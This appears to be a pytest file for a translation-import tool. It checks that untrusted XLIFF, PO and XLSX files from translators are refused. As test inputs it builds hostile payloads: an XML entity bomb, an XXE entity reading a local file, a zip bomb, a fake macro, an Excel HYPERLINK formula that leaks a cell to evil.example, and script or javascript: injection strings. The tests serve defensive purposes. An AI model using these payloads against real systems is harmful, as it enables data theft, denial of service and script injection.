"""A translator's file is untrusted (issue 25): XML entities, formulas, macros, zip bombs, another locale's file,
a stale export, importing twice, and texts that change figure tokens or carry HTML or script links."""
from __future__ import annotations

import os
import subprocess
import zipfile
from pathlib import Path

import polib
import pytest
from lxml import etree
from openpyxl import load_workbook

from bhxhpub.exchange.export import export_file
from bhxhpub.exchange.importer import import_file
from bhxhpub.exchange.untrusted import MAX_FILE_BYTES
from bhxhpub.locales.localize import states
from bhxhpub.model.translations import TranslationState, units
from bhxhpub.pipeline.plan import load
from tests.exchange.test_exchange import DAY, XLIFF_NS, fill_po, fill_xliff, fill_xlsx
from tests.support import cli_command, copy_project

LEAFLET = "vi-sao-khong-nen-nhan-bhxh-mot-lan"
L = f"leaflet/{LEAFLET}"
TOKEN_ROW = f"{L}/sections.3.answer"  # its Vietnamese holds [[so-nam-dong-toi-thieu-huong-luong-huu]]
TOKEN = "[[so-nam-dong-toi-thieu-huong-luong-huu]]"
SLOGAN_ROW = "slogan/hanh-dong-ngay/text"


@pytest.fixture(scope="module")
def shipped_copy(tmp_path_factory) -> Path:
    """The shipped project, never written to by these tests (every import here is refused)."""
    return copy_project(tmp_path_factory.mktemp("untrusted") / "p")


@pytest.fixture(scope="module")
def exports(shipped_copy, tmp_path_factory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("exports")
    files = {}
    for fmt in ("xlsx", "po", "xliff"):
        files[fmt] = out / f"hmong.{fmt}"
        export_file(shipped_copy, "hmong", fmt, files[fmt], today=DAY)
    return files


def yaml_bytes(proj: Path) -> dict[Path, bytes]:
    return {p: p.read_bytes() for p in sorted(proj.rglob("*.yaml"))}


def refused(proj: Path, path: Path, **kw) -> str:
    """Import `path`: it must be refused with nothing written; the messages as the editor sees them."""
    before = yaml_bytes(proj)
    _res, problems = import_file(proj, path, today=DAY, **kw)
    assert not problems.ok, "imported"
    assert yaml_bytes(proj) == before
    return problems.report()


# --- XML: no DOCTYPE, no entities ------------------------------------------------------------------------------

def _with_doctype(src: Path, dst: Path, doctype: str, target: str) -> None:
    fill_xliff(src, dst, {SLOGAN_ROW: "MARKER"})
    text = dst.read_text(encoding="utf-8").replace("MARKER", target)
    decl, rest = text.split("\n", 1) if text.startswith("<?xml") else ("", text)
    dst.write_text(f"{decl}\n{doctype}\n{rest}", encoding="utf-8")


def test_an_xliff_with_entities_is_refused_without_expanding_them(shipped_copy, exports, tmp_path):
    laughs = "<!DOCTYPE xliff [<!ENTITY lol \"lol\">" + "".join(
        f"<!ENTITY lol{i} \"{('&lol' + (str(i - 1) if i > 1 else '') + ';') * 10}\">" for i in range(1, 10)) + "]>"
    bomb = tmp_path / "bomb.xliff"
    _with_doctype(exports["xliff"], bomb, laughs, "&lol9;")
    text = refused(shipped_copy, bomb)
    assert "bomb.xliff:1:0: Tệp XLIFF có khai báo DOCTYPE" in text and "lollol" not in text

    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-CONTENT", encoding="utf-8")
    xxe = tmp_path / "xxe.xlf"
    _with_doctype(exports["xliff"], xxe, f'<!DOCTYPE xliff [<!ENTITY x SYSTEM "file://{secret}">]>', "&x;")
    text = refused(shipped_copy, xxe)
    assert "DOCTYPE" in text and "SECRET-CONTENT" not in text

    external = tmp_path / "dtd.xlf"  # an external DTD is neither fetched nor read
    _with_doctype(exports["xliff"], external, f'<!DOCTYPE xliff SYSTEM "file://{secret}">', "text")
    assert "DOCTYPE" in refused(shipped_copy, external)


# --- sizes, from the file and the ZIP directory, before any parser ----------------------------------------------

@pytest.mark.parametrize("suffix", [".xlsx", ".po", ".xliff"])
def test_an_oversized_file_is_refused_from_its_size_before_it_is_read(shipped_copy, tmp_path, suffix):
    big = tmp_path / f"big{suffix}"
    with open(big, "wb") as fh:  # sparse: nothing is written, the size is what is checked
        fh.truncate(MAX_FILE_BYTES * 50)
    text = refused(shipped_copy, big)
    assert f"big{suffix}: Tệp quá lớn" in text


def _rezip(src: Path, dst: Path, extra: dict[str, bytes]) -> None:
    with zipfile.ZipFile(src) as z, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as out:
        for info in z.infolist():
            out.writestr(info, z.read(info.filename))
        for name, data in extra.items():
            out.writestr(name, data)


def test_a_workbook_with_macros_is_refused(shipped_copy, exports, tmp_path):
    vba = tmp_path / "macro.xlsx"
    _rezip(exports["xlsx"], vba, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really VBA"})
    assert "macro.xlsx: Tệp Excel có chứa macro" in refused(shipped_copy, vba)
    xlsm = tmp_path / "hmong.xlsm"
    xlsm.write_bytes(exports["xlsx"].read_bytes())
    assert "hmong.xlsm: Tệp Excel dạng “.xlsm”" in refused(shipped_copy, xlsm)


def test_a_zip_bomb_or_a_zip_of_many_parts_is_refused_before_openpyxl_reads_it(shipped_copy, exports, tmp_path,
                                                                              monkeypatch):
    import openpyxl.reader.excel as reader

    def never(*a, **k):
        raise AssertionError("openpyxl was asked to read a refused workbook")

    monkeypatch.setattr(reader, "load_workbook", never)
    monkeypatch.setattr("bhxhpub.exchange.xlsx.load_workbook", never)
    bomb = tmp_path / "bomb.xlsx"  # a sheet of 60 MB of one repeated row packs to about 100 KB
    _rezip(exports["xlsx"], bomb, {"xl/worksheets/sheet9.xml": b"<row/>" * 10_000_000})
    assert bomb.stat().st_size < 2_000_000
    assert "bomb.xlsx: Tệp Excel bung ra quá lớn" in refused(shipped_copy, bomb)
    many = tmp_path / "many.xlsx"
    _rezip(exports["xlsx"], many, {f"xl/media/x{i}.bin": b"" for i in range(500)})
    assert "many.xlsx: Tệp Excel bung ra quá lớn" in refused(shipped_copy, many)


# --- formulas: never evaluated, never kept --------------------------------------------------------------------

def test_a_formula_in_a_workbook_is_refused_with_its_row(shipped_copy, exports, tmp_path):
    wb = load_workbook(exports["xlsx"])
    ws = wb["Bản dịch"]
    cols = {c.value: c.column for c in ws[1]}
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, cols["context"]).value == SLOGAN_ROW)
    ws.cell(row, cols["target"]).value = '=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")'
    assert ws.cell(row, cols["target"]).data_type == "f"
    bad = tmp_path / "formula.xlsx"
    wb.save(bad)
    text = refused(shipped_copy, bad)
    assert f"formula.xlsx [Bản dịch]:{row}:{cols['target']}: Ô target của dòng {row} là công thức Excel" in text


@pytest.mark.parametrize("fmt", ["xlsx", "po", "xliff"])
def test_a_text_starting_like_a_formula_is_imported_as_text_and_exported_as_text(tmp_path, fmt):
    proj = copy_project(tmp_path / "p")
    export_file(proj, "hmong", fmt, tmp_path / f"h.{fmt}", today=DAY)
    typed = "=1+1 -22% @lub npe +84"  # as text (a quote-prefixed cell in Excel)
    filled = tmp_path / f"filled.{fmt}"
    {"xlsx": fill_xlsx, "po": fill_po, "xliff": fill_xliff}[fmt](tmp_path / f"h.{fmt}", filled, {SLOGAN_ROW: typed})
    if fmt == "xlsx":  # openpyxl takes a value starting with = for a formula: the translator's cell was text
        wb = load_workbook(filled)
        for row in wb["Bản dịch"].iter_rows():
            for c in row:
                if c.value == typed:
                    c.data_type = "s"
        wb.save(filled)
    _res, problems = import_file(proj, filled, today=DAY)
    assert problems.ok, problems.report()
    assert "text: =1+1 -22% @lub npe +84" in (proj / "slogans" / "khau-hieu-2021.hmong.yaml").read_text(encoding="utf-8") \
        or "'=1+1 -22% @lub npe +84'" in (proj / "slogans" / "khau-hieu-2021.hmong.yaml").read_text(encoding="utf-8")
    again = tmp_path / "again.xlsx"
    export_file(proj, "hmong", "xlsx", again, today=DAY)
    wb = load_workbook(again)
    assert not [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    cell = next(c for row in wb["Bản dịch"].iter_rows() for c in row if c.value == typed)
    assert cell.quotePrefix  # Excel shows it as text and keeps it text when edited
    with zipfile.ZipFile(again) as z:
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


# --- locale, staleness, idempotence ----------------------------------------------------------------------------

def test_a_file_for_one_locale_is_not_imported_into_another(shipped_copy, exports, tmp_path):
    text = refused(shipped_copy, exports["xlsx"], locale="tay")
    assert "Tệp này dành cho" in text and "(hmong), không phải" in text and "(tay)" in text
    po = polib.pofile(str(exports["po"]))
    po.metadata["X-Bhxh-Locale"] = "tay"  # the locale edited, the language tag still H'Mông's
    po.save(str(tmp_path / "relabelled.po"))
    assert "thẻ ngôn ngữ “hmn”" in refused(shipped_copy, tmp_path / "relabelled.po")
    tree = etree.parse(str(exports["xliff"]))
    tree.find(".//x:file/x:notes/x:note[@category='locale']", XLIFF_NS).text = "tay"
    tree.write(str(tmp_path / "relabelled.xliff"), xml_declaration=True, encoding="UTF-8")
    assert "thẻ ngôn ngữ “hmn”" in refused(shipped_copy, tmp_path / "relabelled.xliff")


def test_a_stale_export_is_imported_as_outdated_never_current(tmp_path):
    proj = copy_project(tmp_path / "p")
    export_file(proj, "hmong", "po", tmp_path / "h.po", today=DAY)
    fill_po(tmp_path / "h.po", tmp_path / "filled.po", {TOKEN_ROW: f"Them txaus {TOKEN} STALE."})
    src = proj / "leaflets" / f"{LEAFLET}.yaml"  # the Vietnamese changes after the export
    old = f"Cần đóng BHXH đủ {TOKEN} và đủ tuổi nghỉ hưu."
    src.write_text(src.read_text(encoding="utf-8").replace(old, old.replace("đủ [[", "ít nhất [[")), encoding="utf-8")
    _res, problems = import_file(proj, tmp_path / "filled.po", today=DAY)
    assert problems.ok, problems.report()
    content = load(proj)
    state = next(s for s in states(units(content, content.ui), content.translations, "hmong")
                 if (s.unit.kind, s.unit.id) == ("leaflet", LEAFLET))
    assert state.state == TranslationState.OUTDATED
    assert state.translation.source_text["sections"][2]["answer"] == old  # what it was translated from


def _hmong(proj: Path, kind: str, item: str) -> dict:
    return next(t.fields for t in load(proj).translations if (t.kind, t.id, t.locale) == (kind, item, "hmong"))


@pytest.mark.parametrize("fmt", ["xlsx", "po", "xliff"])
def test_a_file_exported_before_another_import_never_overwrites_that_translation(tmp_path, fmt):
    """Two translators export the same day; B imports first. A's file brings A's own rows, keeps B's where A
    left them as exported, and is refused, naming the row and B's text, where both changed the same text."""
    proj = copy_project(tmp_path / "p")
    fill = {"xlsx": fill_xlsx, "po": fill_po, "xliff": fill_xliff}[fmt]
    for who in ("a", "b"):
        export_file(proj, "hmong", fmt, tmp_path / f"{who}.{fmt}", today=DAY)
    fill(tmp_path / f"b.{fmt}", tmp_path / f"b1.{fmt}", {SLOGAN_ROW: "Ua tam (B)"})
    _res, problems = import_file(proj, tmp_path / f"b1.{fmt}", today=DAY)
    assert problems.ok, problems.report()
    fill(tmp_path / f"a.{fmt}", tmp_path / f"a1.{fmt}", {SLOGAN_ROW: "Ua tam (A)"})  # both changed the slogan
    said = refused(proj, tmp_path / f"a1.{fmt}")
    assert f"Bản dịch dòng “{SLOGAN_ROW}” đã được sửa trong dự án sau khi xuất tệp này" in said and "Ua tam (B)" in said
    fill(tmp_path / f"a.{fmt}", tmp_path / f"a2.{fmt}", {TOKEN_ROW: f"Them txaus {TOKEN} (A)."})  # A's own row only
    _res, problems = import_file(proj, tmp_path / f"a2.{fmt}", today=DAY)
    assert problems.ok, problems.report()
    assert _hmong(proj, "slogan", "hanh-dong-ngay")["text"] == "Ua tam (B)"
    assert _hmong(proj, "leaflet", LEAFLET)["sections"][2]["answer"] == f"Them txaus {TOKEN} (A)."


def test_importing_the_same_file_twice_gives_the_same_bytes(tmp_path):
    proj = copy_project(tmp_path / "p")
    export_file(proj, "hmong", "xliff", tmp_path / "h.xliff", today=DAY)
    fill_xliff(tmp_path / "h.xliff", tmp_path / "filled.xliff", {TOKEN_ROW: f"Them {TOKEN} ONCE", SLOGAN_ROW: "Ua tam"})
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1779840000"}
    first = subprocess.run(cli_command(proj, "translations", "import", str(tmp_path / "filled.xliff")),
                           capture_output=True, text=True, env=env)
    assert first.returncode == 0, first.stderr
    after_one = yaml_bytes(proj)
    second = subprocess.run(cli_command(proj, "translations", "import", str(tmp_path / "filled.xliff")),
                            capture_output=True, text=True, env=env)
    assert second.returncode == 0 and "0 mục được ghi" in second.stdout, second.stdout + second.stderr
    assert yaml_bytes(proj) == after_one


# --- texts: figure tokens, HTML, script links -------------------------------------------------------------------

@pytest.mark.parametrize("target, says", [
    ("Them txaus 15 xyoos.", f"thiếu {TOKEN}"),  # dropped (typed as a number)
    (f"Them txaus {TOKEN} {TOKEN}.", f"thừa {TOKEN}"),  # added
    ("Them txaus [[tuoi-nghi-huu-nam]].", f"thiếu {TOKEN}; thừa [[tuoi-nghi-huu-nam]]"),  # changed
    (f"Them {TOKEN} <script>alert(1)</script>", "thẻ HTML"),
    (f"Them {TOKEN} <img src=x onerror=alert(1)>", "thẻ HTML"),
    (f'Them {TOKEN} <a href="https://evil.example">nias</a>', "thẻ HTML"),
    (f"Them {TOKEN} [nias](javascript:alert(1))", "javascript:"),
    (f"Them {TOKEN} JaVa\tScRiPt :alert(1)", "javascript:"),
])
def test_a_translation_that_changes_a_figure_token_or_carries_html_is_refused_with_its_unit(
        shipped_copy, exports, tmp_path, target, says):
    bad = tmp_path / "bad.po"
    fill_po(exports["po"], bad, {TOKEN_ROW: target})
    line = next(e.linenum for e in polib.pofile(str(bad)) if e.msgctxt == TOKEN_ROW)
    text = refused(shipped_copy, bad)
    assert f"bad.po:{line}:0: Dòng “{TOKEN_ROW}”: bản dịch" in text and says in text, text


def test_the_command_refuses_a_hostile_file_in_vietnamese_without_a_traceback(shipped_copy, exports, tmp_path):
    bomb = tmp_path / "bomb.xlf"
    _with_doctype(exports["xliff"], bomb, '<!DOCTYPE xliff [<!ENTITY a "aaaaaaaaaa">]>', "&a;")
    before = yaml_bytes(shipped_copy)
    r = subprocess.run(cli_command(shipped_copy, "translations", "import", str(bomb)), capture_output=True, text=True,
                       env={**os.environ, "SOURCE_DATE_EPOCH": "1779840000"})
    assert r.returncode == 1 and "bomb.xlf:1:0: Tệp XLIFF có khai báo DOCTYPE" in r.stderr, r.stdout + r.stderr
    assert "Traceback" not in r.stderr and yaml_bytes(shipped_copy) == before


def test_a_sheet_with_more_rows_than_any_export_is_refused_and_a_pipe_is_never_opened(shipped_copy, exports, tmp_path,
                                                                                     monkeypatch):
    monkeypatch.setattr("bhxhpub.exchange.xlsx.MAX_ROWS", 50)  # the real limit is 50,000; the export has more than 50
    assert "Trang tính có hơn 50 dòng" in refused(shipped_copy, exports["xlsx"])
    fifo = tmp_path / "hmong.po"
    os.mkfifo(fifo)  # opening it would wait for a writer forever
    assert "hmong.po: Đây không phải một tệp thường" in refused(shipped_copy, fifo)
